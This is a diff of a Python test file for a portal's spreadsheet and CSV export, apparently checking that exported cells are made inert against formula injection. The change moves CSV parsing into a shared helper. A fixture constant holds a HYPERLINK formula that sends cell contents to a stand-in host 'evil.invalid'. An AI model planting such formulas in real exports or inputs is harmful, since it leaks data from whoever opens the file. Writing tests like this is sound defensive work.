@@ -7,7 +7,6 @@ and WPS), every XLSX cell holds them as text.
 
 from __future__ import annotations
 
-import csv
 import io
 
 import pytest
@@ -17,7 +16,7 @@ from sqlalchemy import select
 from portal.core.spreadsheet import inert
 from portal.models import Case, Complaint, PortalUser, SubCenter, Window, db
 from portal.web.security import ensure_center_admin
-from tests.support.world import PASSWORD, signed_in
+from tests.support.world import PASSWORD, csv_rows, signed_in
 from tests.test_reports import at, month_of_cases, on  # noqa: F401 - fixture
 
 APPLICANT = '=HYPERLINK("http://evil.invalid/?leak="&A1,"点击查看")'
@@ -47,8 +46,7 @@ def hostile(month_of_cases):  # noqa: F811 - fixture
 
 
 def _csv(response) -> list[list[str]]:
-    assert response.status_code == 200, response.status
-    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+    return csv_rows(response)
 
 
 def _cells(rows: list[list[str]]) -> list[str]:
